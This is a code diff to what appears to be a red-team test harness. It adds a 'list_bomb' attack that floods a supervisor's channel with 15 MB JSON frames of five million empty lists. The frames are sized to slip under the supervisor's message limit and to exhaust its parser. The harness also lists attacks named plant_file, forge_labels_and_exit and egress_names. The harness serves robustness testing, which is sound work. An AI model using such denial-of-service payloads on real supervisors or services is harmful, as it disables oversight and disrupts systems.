@@ -123,7 +123,23 @@ def _plant_file(arg):
     return f"wrote {path}"
 
 
+def _list_bomb(arg):
+    """Send the supervisor ``n`` messages of about 15 MB each (under its
+    16 MiB bound), each a list of five million empty lists: cheap to send,
+    dear to parse."""
+    import struct
+
+    channel = _one("Channel")
+    body = b'{"op": "noise", "a": [' + b"[]," * 5_000_000 + b"[]]}"
+    frame = struct.pack("!IB", len(body), 1) + body
+    for _ in range(int(arg)):
+        with channel._send_lock:
+            channel.sock.sendall(frame)
+    return f"sent {arg} messages of {len(body)} bytes"
+
+
 ATTACKS = {
+    "list_bomb": _list_bomb,
     "plant_file": _plant_file,
     "plant_cache": _plant_cache,
     "forge_labels_and_exit": _forge_labels_and_exit, "egress_names": _egress_names,
